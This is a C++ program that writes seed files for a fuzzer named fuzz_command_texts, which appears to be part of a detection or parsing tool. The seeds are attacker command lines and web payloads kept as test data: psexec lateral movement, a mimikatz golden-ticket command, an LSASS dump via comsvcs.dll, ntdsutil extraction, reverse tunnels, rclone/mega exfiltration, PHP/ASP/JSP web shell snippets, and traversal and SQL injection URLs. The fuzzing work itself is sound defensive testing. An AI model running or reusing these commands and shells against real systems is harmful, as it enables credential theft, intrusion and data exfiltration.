// Seeds of fuzz_command_texts: the number of the reader in front.
#include <fstream>
#include <iterator>
#include <string>
#include <string_view>

namespace {

struct Seed {
  char reader;
  std::string_view text;
};
constexpr Seed kSeeds[] = {
    {0, "psexec \\\\S -u a -p x cmd /c \"net use \\\\T\\c$ y /user:b\""},
    {0, "set P=x& rar a -hp%P% a.rar b; $env:Q=\"y\"; 7z a -p$env:Q c.7z d"},
    {0, "echo u>>f&echo x>>f&ftp -s:f h & echo x|rar a -hp a.rar b -\"hpz\""},
    {0, "curl -sku a:b -b \"s=t\" -F token=x -d \"p=1&pwd=2\" https://u:x@h/bot1:y/z?token=w"},
    {0, "m.exe \"kerberos::golden /krbtgt:8846f7eaee8fb117ad06bdd830b7586c /ptt\" exit"},
    {0, "Start-Process -FilePath plink.exe -ArgumentList '-R','3389:127.0.0.1:3389','u@h'"},
    {0, "c.exe client 203.0.113.9:443 R:1080:socks"},
    {0, "f.exe -h 10.0.0.0/16 -nopoc -np"},
    {0, "rundll32 comsvcs.dll,#65560 632 o full & ntdsutil \"cr fu c:\\x\" q"},
    {0,
     "New-Object Net.NetworkCredential('u','x'); mega-login a b; rclone config create m n pass o"},
    {1,
     "<?php $m=['a'=>'b']; $f=$m[$_GET['a']]; $f($_POST['x']); $c=trim($_GET['c']); f($c.' 2');"},
    {1,
     "<% var a=Assembly.Load(\"P\"); Request.Files[0].SaveAs(Server.MapPath(Request[\"n\"])); %>"},
    {1, "<% getRuntime().exec(\"ping \"+request.getParameter(\"a\")); %>"},
    {1,
     "<?php $in=$_POST; usort($a,$in['f']); move_uploaded_file($_FILES['f']['tmp_name'],"
     "$_POST['n'].'.jpg');"},
    {2, "/aspnet_client/a.aspx?c=ZGlyIGM6XA=="},
    {2, "/uploads/x.aspx;.jpg"},
    {2, "/portal/a.aspx/x.css?q=%27%20union%20select"},
    {2, "/cgi-bin/.%2e/.%2e/etc/passwd"},
};

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  bool written = true;
  for (std::size_t i = 0; i < std::size(kSeeds); ++i) {
    std::ofstream file{std::string{argv[1]} + "/" + std::to_string(i), std::ios::binary};
    file << kSeeds[i].reader << kSeeds[i].text;
    written = written && file;
  }
  return written ? 0 : 1;
}
